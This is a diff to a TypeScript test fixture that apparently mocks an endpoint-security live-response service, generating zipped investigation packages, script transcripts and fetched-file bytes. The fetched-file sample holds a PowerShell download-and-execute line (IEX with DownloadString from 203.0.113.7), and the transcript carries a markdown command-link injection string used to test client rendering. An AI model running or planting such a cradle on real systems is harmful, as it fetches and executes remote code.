@@ -3,6 +3,7 @@
 // a null device name, an application requestor, markdown/link injection in a comment, live response
 // commands, and ages from minutes to ~60 days so a 7-day lookback filters some out.
 import * as crypto from 'node:crypto';
+import * as zlib from 'node:zlib';
 
 /** A stored action: loose on purpose, because real payloads vary in spelling and content. */
 export type RawAction = { id: string } & Record<string, unknown>;
@@ -200,4 +201,80 @@ export function bulkActions(n: number, now: Date): RawAction[] {
     };
     return buildAction(stableGuid(`bulk-${i}`), row, now.getTime());
   });
+}
+
+/** What the storage host serves for a result: the bytes and their Content-Type. */
+export interface ResultContent {
+  body: Buffer;
+  contentType: string;
+}
+
+/**
+ * The result of live-response command `index` of `action`, or (index undefined) its investigation package:
+ * RunScript → the service's JSON transcript; GetFile → the file's bytes (a PowerShell script saved as UTF-16 with a
+ * byte-order mark, so not UTF-8 text); a package → a real zip with a few of the package's folders.
+ */
+export function resultContent(action: RawAction, index?: number): ResultContent {
+  const device = String(action.computerDnsName ?? action.machineId);
+  if (index === undefined) {
+    return { body: zipOf([
+      ['Processes/processes.csv', `Name,Id,Path\r\nexplorer.exe,4120,C:\\Windows\\explorer.exe\r\n`],
+      ['Network connections/ActiveNetConnections.txt', `Active connections on ${device}\r\n  TCP 10.0.4.12:49822 52.168.117.170:443 ESTABLISHED\r\n`],
+      ['Prefetch files/PrefetchFilesList.txt', 'POWERSHELL.EXE-022A1004.pf\r\n'],
+    ]), contentType: 'application/zip' };
+  }
+  const commands = Array.isArray(action.commands) ? action.commands as Array<{ command?: { type?: string; params?: Array<{ value?: string }> } }> : [];
+  const command = commands[index]?.command;
+  if (command?.type === 'GetFile') {
+    const script = `# ${command.params?.[0]?.value ?? 'file'}\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n`;
+    return { body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script, 'utf16le')]), contentType: 'application/octet-stream' };
+  }
+  const transcript = {
+    script_name: command?.params?.[0]?.value ?? 'script.ps1',
+    exit_code: 0,
+    script_output: `Transcript started on ${device}\nProcesses: 142\nAutoruns: 3 unsigned entries\n<b>not markup</b> [link](command:workbench.action.quit)\n`,
+    script_errors: '',
+  };
+  return { body: Buffer.from(JSON.stringify(transcript)), contentType: 'application/json' };
+}
+
+/** CRC-32, both sizes (stored: equal) and the name length: the same run of fields in a local and a central header. */
+function writeEntry(header: Buffer, at: number, crc: number, size: number, nameLength: number): void {
+  header.writeUInt32LE(crc, at);
+  header.writeUInt32LE(size, at + 4);
+  header.writeUInt32LE(size, at + 8);
+  header.writeUInt16LE(nameLength, at + 12);
+}
+
+/** A zip (stored, no compression) of `[path, text]` entries: enough for a package a client saves and an unzip reads. */
+function zipOf(entries: Array<[string, string]>): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const [name, text] of entries) {
+    const data = Buffer.from(text);
+    const fileName = Buffer.from(name);
+    const crc = zlib.crc32(data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    writeEntry(local, 14, crc, data.length, fileName.length);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    writeEntry(central, 16, crc, data.length, fileName.length);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, fileName, data);
+    centrals.push(central, fileName);
+    offset += local.length + fileName.length + data.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
 }
